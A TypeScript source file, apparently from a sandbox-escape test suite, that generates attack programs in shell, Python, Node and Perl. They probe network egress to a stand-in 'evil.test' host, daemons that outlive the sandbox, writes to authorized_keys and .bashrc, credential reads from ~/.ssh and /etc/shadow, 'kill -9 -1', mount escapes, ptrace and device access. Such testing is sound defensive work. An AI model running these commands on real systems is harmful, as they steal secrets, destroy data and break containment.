/** Decides what is tried against the sandbox: each attack is a small program; what it says of itself with BREACH counts too. */
import type { Attack, Language } from './attack.ts';
import { bombs } from './bombs.ts';
import type { Aim } from './scene.ts';

/** Every attack on this scene, in a fixed order. */
export function attacksOn(aim: Aim): readonly Attack[] {
  return [...network(aim), ...daemons(aim), ...writes(aim), ...escapes(aim), ...processes(aim), ...devices(aim), ...bombs()];
}

const text = JSON.stringify;
const quote = (word: string): string => `'${word.replaceAll("'", `'\\''`)}'`;

function network(aim: Aim): readonly Attack[] {
  const found: Attack[] = [];
  const add = (name: string, language: Language, code: string, needs?: string): void => void found.push({ family: 'network', name, language, code, ...(needs === undefined ? {} : { needs }) });
  for (const host of aim.hosts) {
    const isSix = host.includes(':');
    const url = `http://${isSix ? `[${host}]` : host}:${aim.tcp}/${aim.token}`;
    add(`tcp ${host} by bash`, 'bash', `exec 9<>/dev/tcp/${host}/${aim.tcp} && echo x >&9`);
    add(`tcp ${host} by python`, 'python3', `import socket\ns=socket.create_connection((${text(host)},${aim.tcp}),2)\ns.send(b"x")`);
    add(`tcp ${host} by node`, 'node', `require('net').connect({host:${text(host)},port:${aim.tcp}}).on('error',()=>{})`);
    add(`http ${host} by node`, 'node', `fetch(${text(url)}).catch(()=>{})`);
    add(`tcp ${host} by perl`, 'perl', `use IO::Socket::IP; my $s=IO::Socket::IP->new(PeerHost=>${text(host)},PeerPort=>${aim.tcp},Timeout=>2); print $s "x" if $s;`);
    add(`http ${host} by curl`, 'sh', `curl -s -m 2 ${quote(url)}`, 'curl');
    add(`http ${host} by wget`, 'sh', `wget -q -T 2 -t 1 -O - ${quote(url)}`, 'wget');
    add(`git over http to ${host}`, 'sh', `git ls-remote ${quote(url)}`, 'git');
    add(`udp ${host} by bash`, 'bash', `echo x > /dev/udp/${host}/${aim.udp}`);
    add(`udp ${host} by python`, 'python3', `import socket\ns=socket.socket(socket.${isSix ? 'AF_INET6' : 'AF_INET'},socket.SOCK_DGRAM)\ns.sendto(b"x",(${text(host)},${aim.udp}))`);
    add(`dns question to ${host} by node`, 'node', `const d=require('dns');const r=new d.Resolver({timeout:500,tries:1});r.setServers([${text(isSix ? `[${host}]:${aim.udp}` : `${host}:${aim.udp}`)}]);r.resolve4(${text(`${aim.token}.evil.test`)},()=>{})`);
    add(`tcp fast open ${host}`, 'python3', `import socket\ns=socket.socket(socket.${isSix ? 'AF_INET6' : 'AF_INET'})\ns.sendto(b"x",0x20000000,(${text(host)},${aim.tcp}))`);
    add(`network of its own to ${host}`, 'sh', `unshare -rn sh -c ${quote(`ip link set lo up; ip addr add ${host} dev lo; curl -s -m 1 ${url}`)}`, 'unshare');
  }
  for (const path of [...aim.sockets, ...aim.sockets.map((one) => `/proc/self/root${one}`), `${aim.ws}/away/s.sock`]) {
    add(`unix socket ${path} by python`, 'python3', `import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect(${text(path)})`);
    add(`unix socket ${path} by node`, 'node', `require('net').connect(${text(path)}).on('error',()=>{})`);
    add(`unix socket ${path} by curl`, 'sh', `curl -s -m 2 --unix-socket ${quote(path)} http://x/`, 'curl');
  }
  add('abstract socket by python', 'python3', `import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect("\\0"+${text(aim.abstract)})`);
  add('abstract socket by node', 'node', `require('net').connect("\\0"+${text(aim.abstract)}).on('error',()=>{})`);
  add('a name by the resolver', 'python3', `import socket\nsocket.setdefaulttimeout(1)\nsocket.getaddrinfo(${text(`${aim.token}.evil.test`)},80)`);
  add('a name by getent', 'sh', `getent hosts ${aim.token}.evil.test`);
  add('raw packets', 'python3', 'import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_ICMP)\ns.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0",("127.0.0.1",0))');
  add('packets of the link layer', 'python3', 'import socket\ns=socket.socket(socket.AF_PACKET,socket.SOCK_RAW,socket.htons(3))\ns.bind(("lo",0))\ns.send(b"\\0"*14+b"x"*46)');
  add('a socket to the machine that holds this one', 'python3', 'import socket\ns=socket.socket(socket.AF_VSOCK,socket.SOCK_STREAM)\nprint("BREACH: AF_VSOCK is no part of the network namespace")');
  for (const [name, number] of [['AF_ALG', 38], ['AF_BLUETOOTH', 31], ['AF_CAN', 29], ['AF_TIPC', 30], ['AF_RDS', 21], ['AF_KCM', 41], ['AF_XDP', 44], ['AF_QIPCRTR', 42]] as const) {
    add(`a socket of family ${name}`, 'python3', `import socket\nfor t in (1,2,3,5):\n  try:\n    socket.socket(${number},t,0)\n    print("BREACH: a socket of family ${name}")\n  except OSError: pass`);
  }
  add('another interface', 'sh', 'ip link add d0 type veth peer name d1 && ip link set d0 netns 1', 'ip');
  return found;
}

function daemons(aim: Aim): readonly Attack[] {
  const nap = `sleep 3600`;
  const add = (name: string, language: Language, code: string, needs?: string): Attack => ({ family: 'daemon', name, language, code, ...(needs === undefined ? {} : { needs }) });
  const forks = (prepare: string): string => `import os,time,signal\nif os.fork()==0:\n  ${prepare}\n  if os.fork()==0:\n    time.sleep(3600)\n  os._exit(0)`;
  return [
    add('setsid', 'sh', `setsid ${nap} >/dev/null 2>&1 &`), add('setsid that holds the output', 'sh', `setsid ${nap} &`), add('nohup', 'sh', `nohup ${nap} >/dev/null 2>&1 &`),
    add('disown', 'bash', `${nap} & disown -a`), add('subshell in the background', 'sh', `(${nap} &) ; (${nap} &)`), add('a coprocess', 'bash', `coproc { ${nap}; }; disown -a`),
    add('ignores every signal', 'sh', `(trap '' HUP TERM INT QUIT PIPE; ${nap}) >/dev/null 2>&1 &`),
    add('two forks in python', 'python3', forks('os.setsid()')), add('two forks, empty environment', 'python3', `import os\nif os.fork()==0:\n  os.setsid()\n  os.execve("/bin/sleep",["x","3600"],{})`),
    add('two forks, no descriptors', 'python3', forks('os.setsid(); os.closerange(0,256)')), add('two forks, ignored signals', 'python3', forks('os.setsid(); [signal.signal(s,signal.SIG_IGN) for s in (1,2,3,13,15)]')),
    add('a child that forks on and on', 'python3', 'import os,time\nif os.fork()==0:\n  os.setsid()\n  while True:\n    if os.fork(): os._exit(0)\n    time.sleep(0.01)'),
    add('detached by node', 'node', `require('child_process').spawn('sleep',['3600'],{detached:true,stdio:'ignore'}).unref()`), add('detached by perl', 'perl', 'use POSIX; if(!fork){POSIX::setsid(); exit if fork; sleep 3600}'),
    add('a process namespace of its own', 'sh', `unshare -rpf ${nap} >/dev/null 2>&1 &`, 'unshare'), add('a tmux server', 'sh', `tmux -S ./t new-session -d ${quote(nap)}`, 'tmux'),
    add('a stopped child', 'sh', `${nap} & kill -STOP $!`), add('a child with another name', 'bash', `(exec -a ${aim.token} ${nap}) & disown`),
    add('a subreaper', 'python3', `import ctypes,os\nctypes.CDLL(None).prctl(36,1)\n${forks('os.setsid()').replace('import os,time,signal', 'import time,signal')}`),
    add('a thread that outlives main', 'python3', 'import threading,time,os\nif os.fork()==0:\n  threading.Thread(target=time.sleep,args=(3600,)).start()\n  time.sleep(3600)'),
  ];
}

/** Places that a command must not change, with whether they are the scene's own. */
function places(aim: Aim): readonly { readonly path: string; readonly isOwn: boolean }[] {
  const own = [
    `${aim.outside}/canary.txt`, `${aim.outside}/new.txt`, `${aim.ws}/../outside/deep/canary.txt`, 'away/canary.txt', 'away.txt', `/proc/self/root${aim.outside}/canary.txt`, `/proc/1/root${aim.outside}/canary.txt`,
    `/proc/self/cwd/../outside/canary.txt`, `/proc/${aim.victim}/root${aim.outside}/canary.txt`, `/proc/${aim.keeper}/root${aim.outside}/canary.txt`, `${aim.home}/.bashrc`, `${aim.home}/.ssh/authorized_keys`, `${aim.home}/.profile`,
    `${aim.ws}/package.json`, `${aim.ws}/src/new.js`, `${aim.ws}/node_modules/dep/index.js`, `${aim.ws}/node_modules/new/index.js`, `${aim.ws}/.git/config`, `${aim.ws}/.git/hooks/post-checkout`, `${aim.ws}/.git/HEAD`,
  ];
  const ofSystem = ['/tmp', '/var/tmp', '/dev/shm', '/usr/local/bin', '/usr/bin', '/etc', '/root', '/opt', '/run', '/dev', ''].map((folder) => `${folder}/${aim.token}`);
  return [...own.map((path) => ({ path, isOwn: true })), ...ofSystem.map((path) => ({ path, isOwn: false }))];
}

function writes(aim: Aim): readonly Attack[] {
  return places(aim).flatMap(({ path, isOwn }) => {
    const at = quote(path);
    const add = (name: string, language: Language, code: string): Attack => ({ family: 'write', name: `${name} ${path}`, language, code, ...(isOwn ? {} : { isGrave: true }) });
    const plain = [
      add('redirect to', 'sh', `echo x > ${at}`), add('append to', 'sh', `echo x >> ${at}`), add('copy over', 'sh', `cp package.json ${at}`), add('rename over', 'sh', `echo x > mine; mv -f mine ${at}`), add('dd to', 'sh', `echo x | dd of=${at} conv=notrunc`),
      add('tee to', 'sh', `echo x | tee ${at}`), add('truncate', 'sh', `truncate -s 0 ${at}`), add('touch', 'sh', `touch -d 2001-01-01 ${at}`), add('chmod', 'sh', `chmod 777 ${at}`), add('chown', 'sh', `chown 1:1 ${at}`), add('edit in place', 'sh', `sed -i s/./x/ ${at}`),
      add('hard link away and write', 'sh', `ln ${at} mine && echo x >> mine`), add('hard link into', 'sh', `echo x > mine; ln -f mine ${at}`), add('symbolic link to and write', 'sh', `ln -s ${at} mine; echo x > mine`), add('symbolic link over', 'sh', `ln -sf /etc/passwd ${at}`),
      add('folder in', 'sh', `mkdir -p ${quote(`${path}.d`)}`), add('fifo in', 'sh', `mkfifo ${quote(`${path}.p`)}`), add('tar to', 'sh', `echo x > mine; tar -cPf t.tar --transform ${quote(`s,mine,${path},`)} mine; tar -xPf t.tar`), add('exchange', 'python3', `import ctypes,os\nopen("mine","w").write("x")\nctypes.CDLL(None).renameat2(-100,b"mine",-100,${text(path)}.encode(),2)`),
      add('nameless file into', 'python3', `import os\nf=os.open(os.path.dirname(${text(path)}) or "/",os.O_TMPFILE|os.O_WRONLY)\nos.write(f,b"x")\nos.link("/proc/self/fd/%d"%f,${text(`${path}.n`)})`),
      add('open and write by python', 'python3', `open(${text(path)},"w").write("x")`), add('map and write by python', 'python3', `import mmap\nf=open(${text(path)},"r+b")\nm=mmap.mmap(f.fileno(),0)\nm[0:1]=b"x"\nm.flush()`),
      add('attribute on', 'python3', `import os\nos.setxattr(${text(path)},"user.x",b"x")`), add('write by node', 'node', `require('fs').writeFileSync(${text(path)},'x')`), add('rename over by node', 'node', `const f=require('fs');f.writeFileSync('mine','x');f.renameSync('mine',${text(path)})`), add('write by perl', 'perl', `open(my $f,'>',${text(path)}); print $f "x";`),
    ];
    const removing = [add('remove', 'sh', `rm -f ${at}`), add('remove by node', 'node', `require('fs').rmSync(${text(path)},{force:true})`), add('remove folder of', 'sh', `rm -rf "$(dirname ${at})"/*`), add('unlink by perl', 'perl', `unlink ${text(path)};`)];
    return isOwn ? [...plain, ...removing] : plain;
  });
}

function escapes(aim: Aim): readonly Attack[] {
  const to = `${aim.outside}/canary.txt`;
  const add = (name: string, language: Language, code: string, needs?: string): Attack => ({ family: 'escape', name, language, code, isGrave: true, ...(needs === undefined ? {} : { needs }) });
  const within = (name: string, code: string): Attack => add(name, 'sh', `unshare -rm sh -c ${quote(code)}`, 'unshare');
  return [
    within('uncover the home', `umount -l ${quote(aim.home)}; echo x > ${quote(`${aim.home}/.bashrc`)}`), within('uncover /tmp', `umount -l /tmp; echo x > ${quote(to)}`), within('uncover all', `umount -a -l; echo x > ${quote(to)}; touch /usr/bin/${aim.token}`),
    within('write to /usr again', `mount -o remount,bind,rw /usr && touch /usr/local/bin/${aim.token}`), within('write to the dependencies again', `mount -o remount,bind,rw ${quote(`${aim.ws}/node_modules`)}; echo x > ${quote(`${aim.ws}/node_modules/dep/index.js`)}`),
    within('write to the repository again', `mount -o remount,bind,rw ${quote(`${aim.ws}/.git`)}; echo x > ${quote(`${aim.ws}/.git/hooks/post-merge`)}`), within('bind over', `mount --bind /usr /mnt; touch /mnt/local/bin/${aim.token}`), within('a proc of its own', `mount -t proc proc /proc; echo x > /proc/1/root${to}`),
    within('uncover the dependencies', `umount -l ${quote(`${aim.ws}/node_modules`)}; echo x > ${quote(`${aim.ws}/node_modules/dep/index.js`)}`), within('sysfs', 'mount -t sysfs sys /mnt && echo BREACH: sysfs'), within('devices', 'mount -t devtmpfs dev /mnt && echo BREACH: devtmpfs'), within('a disk', 'mount /dev/vda /mnt && echo BREACH: a disk; mount /dev/sda1 /mnt && echo BREACH: a disk'),
    within('control groups', 'mkdir /tmp/c; mount -t cgroup2 none /tmp/c && mkdir /tmp/c/x && echo BREACH: control groups'), within('overlay on /usr', `mkdir -p /tmp/u /tmp/w; mount -t overlay o -o lowerdir=/usr,upperdir=/tmp/u,workdir=/tmp/w /mnt; touch /usr/bin/${aim.token}`),
    add('nested bubblewrap', 'sh', `bwrap --bind / / --dev-bind /dev /dev sh -c ${quote(`echo x > ${to}; touch /usr/bin/${aim.token}`)}`, 'bwrap'), add('enter other namespaces', 'sh', `nsenter -t 1 -a sh -c ${quote(`echo x > ${to}`)}; nsenter -t ${aim.keeper} -a sh -c ${quote(`echo x > ${to}`)}`, 'nsenter'),
    add('chroot and out', 'python3', `import os\nos.makedirs("j",exist_ok=True)\nd=os.open("/",0)\ntry: os.chroot("j")\nexcept OSError: pass\nos.fchdir(d)\nfor i in range(64): os.chdir("..")\nopen("."+${text(to)},"w").write("x")`),
    add('descriptors that were left open', 'python3', 'import os\nfor f in range(3,256):\n  try:\n    os.fstat(f)\n    os.readlink("/proc/self/fd/%d"%f)!="/dev/null" and print("BREACH: descriptor %d is open" % f)\n  except OSError: pass'),
    add('descriptors of others', 'sh', `for f in /proc/[0-9]*/fd/*; do case "$(readlink "$f")" in ${aim.outside}*|${aim.home}*) echo "BREACH: $f"; esac; done`), add('folders of others', 'sh', `for f in /proc/[0-9]*/cwd /proc/[0-9]*/root; do cat "$f/..${to}" "$f${to}" 2>/dev/null; done`),
    add('by handle', 'python3', `import ctypes\nl=ctypes.CDLL(None,use_errno=True)\nclass H(ctypes.Structure): _fields_=[("n",ctypes.c_uint),("t",ctypes.c_int),("b",ctypes.c_ubyte*8)]\nfor i in range(2,64):\n  h=H(8,1); h.b[0]=i\n  if l.open_by_handle_at(3,ctypes.byref(h),0)>=0: print("BREACH: opened by handle")`),
    add('read the canary', 'sh', `cat ${quote(to)} ${quote(`${aim.home}/.ssh/id_ed25519`)} away.txt /proc/self/root${quote(to)} ${quote(`${aim.home}/.bashrc`)}`), add('read the home of root', 'sh', 'for f in /root/.ssh /root/.bashrc /root/.profile /home/*/.ssh /home/*/.profile; do test -e "$f" && echo "BREACH: $f"; done'),
    add('read /etc', 'sh', 'for f in /etc/shadow /etc/ssh /etc/machine-id /etc/sudoers /etc/ssl/private /etc/cron.d; do test -e $f && echo "BREACH: $f"; done'), add('environment of others', 'sh', `cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -E '^(API_TOKEN|SSH_AUTH_SOCK|GROUNDCREW_HOSTILE)=' && echo BREACH: environment`),
    add('keys of the kernel', 'python3', 'import ctypes\nl=ctypes.CDLL(None)\nfor n in ((250,0,-3,0),(250,0,-4,0),(250,0,-5,0),(219,0,-3,0),(219,0,-4,0)):\n  if __import__("platform").machine()==("x86_64" if n[0]==250 else "aarch64") and l.syscall(*n)>0: print("BREACH: a keyring")'),
    add('calls past the filter', 'python3', 'import ctypes,platform\nif l:=ctypes.CDLL(None):\n  b=ctypes.create_string_buffer(256)\n  if l.syscall(425,4,b)>=0: print("BREACH: io_uring")'),
    add('host name', 'sh', `hostname ${aim.token}; unshare -ru hostname ${aim.token}`), add('set-uid programs', 'sh', `find /usr/bin -perm -4000 -newermt 1970-01-02 -exec {} --version \\; >/dev/null 2>&1; cp /bin/sh ./root; chmod 4755 ./root; ./root -c "touch /usr/bin/${aim.token}"`), add('capabilities', 'sh', 'grep -E "Cap(Eff|Prm|Amb|Bnd):" /proc/self/status | grep -qv 0000000000000000 && echo BREACH: capabilities; grep -q "NoNewPrivs:.0" /proc/self/status && echo BREACH: new privileges; true'),
  ];
}

function processes(aim: Aim): readonly Attack[] {
  const add = (name: string, language: Language, code: string, isGrave = false): Attack => ({ family: 'process', name, language, code, ...(isGrave ? { isGrave } : {}) });
  const own = 'own={os.getpid(),os.getppid(),1}';
  // A number may be another process here, so what is said of one counts only where it is the one outside.
  const each = (act: string): string => `import os,signal,ctypes\nl=ctypes.CDLL(None)\n${own}\ndef out(p,what):\n  if open("/proc/%d/cmdline"%p,"rb").read()==b"sleep\\0"+b"86400\\0": print("BREACH: "+what)\nfor p in [${aim.victim},${aim.keeper}]+list(range(2,400)):\n  if p in own: continue\n  try:\n    ${act}\n  except OSError: pass`;
  const signals = ['KILL', 'STOP', 'TERM', 'SEGV', 'HUP', 'USR1'].flatMap((name) => [add(`${name} by kill`, 'sh', `kill -${name} ${aim.victim}`), add(`${name} by node`, 'node', `process.kill(${aim.victim},'SIG${name}')`), add(`${name} by pidfd`, 'python3', `import os,signal\nsignal.pidfd_send_signal(os.pidfd_open(${aim.victim}),signal.SIG${name})`)]);
  return [
    ...signals, add('kill by name', 'sh', 'pkill -9 sleep; killall -9 sleep'), add('kill all that one may', 'sh', 'kill -9 -1', true), add('kill every number', 'python3', each('os.kill(p,signal.SIGKILL)'), true), add('kill every group', 'python3', each('os.killpg(p,signal.SIGKILL)'), true),
    add('trace every number', 'python3', each('l.ptrace(16,p,0,0)==0 and (out(p,"traced"), os.waitpid(p,0x40000000), l.ptrace(17,p,0,0))'), true), add('seize', 'python3', `import ctypes,time\nctypes.CDLL(None).ptrace(0x4206,${aim.victim},0,0)\ntime.sleep(0.05)`), add('write to memory', 'python3', each('open("/proc/%d/mem"%p,"r+b") and out(p,"memory")'), true),
    add('read memory', 'python3', each('open("/proc/%d/maps"%p).read() and out(p,"maps")'), true), add('gdb', 'sh', `gdb -p ${aim.victim} -batch -ex 'call (int)kill(${aim.victim},9)' 2>/dev/null | grep -q 'Inferior 1' && echo BREACH: traced`), add('strace', 'sh', `strace -p ${aim.victim} -o ./t & sleep 0.2; kill $!`),
    add('limits of others', 'python3', `import resource\nresource.prlimit(${aim.victim},resource.RLIMIT_CPU,(0,0))`), add('priority of others', 'python3', each('os.setpriority(os.PRIO_PROCESS,p,19); out(p,"priority")'), true), add('killed with its maker', 'sh', 'kill -9 1; kill -9 $PPID; sleep 0.05'), add('stops itself', 'sh', '(sleep 0.2; kill -CONT $$) & kill -STOP $$'),
    add('oom score of others', 'python3', each('open("/proc/%d/oom_score_adj"%p,"w").write("1000"); out(p,"oom score")'), true), add('a terminal that is not its own', 'python3', 'import fcntl,termios,os\nfor p in ("/dev/tty","/dev/console","/proc/1/fd/0"):\n  try:\n    fcntl.ioctl(os.open(p,os.O_RDWR|os.O_NOCTTY),termios.TIOCSTI,b"x")\n    print("BREACH: typed into "+p)\n  except OSError: pass'),
  ];
}

const DEVICES = ['vda', 'vda1', 'sda', 'sda1', 'nvme0n1', 'dm-0', 'loop0', 'loop-control', 'mem', 'kmem', 'port', 'kmsg', 'kvm', 'fuse', 'net/tun', 'btrfs-control', 'cpu_dma_latency', 'vsock', 'vhost-vsock', 'userfaultfd', 'input/event0', 'snd/timer', 'dri/card0', 'rtc0', 'watchdog', 'mapper/control', 'zram0', 'autofs', 'uinput', 'vga_arbiter', 'hwrng'];

function devices(aim: Aim): readonly Attack[] {
  const add = (name: string, language: Language, code: string): Attack => ({ family: 'device', name, language, code, isGrave: true });
  const open = (path: string): Attack => add(`open ${path}`, 'python3', `import os\nfor m in (os.O_RDWR,os.O_WRONLY,os.O_RDONLY):\n  try:\n    os.open(${text(path)},m|os.O_NONBLOCK)\n    print("BREACH: opened "+${text(path)})\n  except OSError: pass`);
  const make = (name: string, type: string, numbers: string): Attack => add(`make ${name}`, 'sh', `mknod ./d ${type} ${numbers} && (head -c 1 ./d >/dev/null 2>&1 && echo BREACH: read ${name}); true`);
  return [
    ...DEVICES.map((name) => open(`/dev/${name}`)), open('/proc/sysrq-trigger'), open('/proc/kcore'), open('/proc/kmsg'), make('a disk', 'b', '254 0'), make('a loop device', 'b', '7 0'), make('memory', 'c', '1 1'), make('kernel messages', 'c', '1 11'), make('a console', 'c', '5 1'),
    add('write anywhere in /proc', 'python3', 'import os\nfor d,ds,fs in os.walk("/proc"):\n  ds[:]=[x for x in ds if not x.isdigit() and x not in ("self","thread-self")]\n  for f in fs:\n    try:\n      os.close(os.open(os.path.join(d,f),os.O_WRONLY|os.O_NONBLOCK))\n      print("BREACH: writable "+os.path.join(d,f))\n    except OSError: pass'),
    add('write anywhere outside', 'python3', `import os\nfor d,ds,fs in os.walk("/"):\n  if d in ("/proc","/tmp",${text(aim.ws)},${text(aim.home)},"/dev/shm","/groundcrew/out","/dev/pts","/usr/share","/usr/lib","/usr/include","/usr/src","/usr/local","/root"): ds[:]=[]; continue\n  if os.access(d,os.W_OK): print("BREACH: writable folder "+d)`),
    add('make files in /dev', 'sh', `touch /dev/${aim.token} /dev/pts/${aim.token}; ls /dev | grep -q ${aim.token} && echo BREACH: /dev`), add('messages of the kernel', 'python3', 'import ctypes\nif ctypes.CDLL(None).klogctl(3,ctypes.create_string_buffer(64),64)>0: print("BREACH: kernel messages")'), add('calls for the owner of the machine', 'python3', 'import ctypes\nl=ctypes.CDLL(None)\nfor name,args in (("sethostname",(b"x",1)),("acct",(b"/tmp/x",)),("swapoff",(b"/none",)),("setdomainname",(b"x",1))):\n  if getattr(l,name)(*args)==0: print("BREACH: "+name)'),
  ];
}
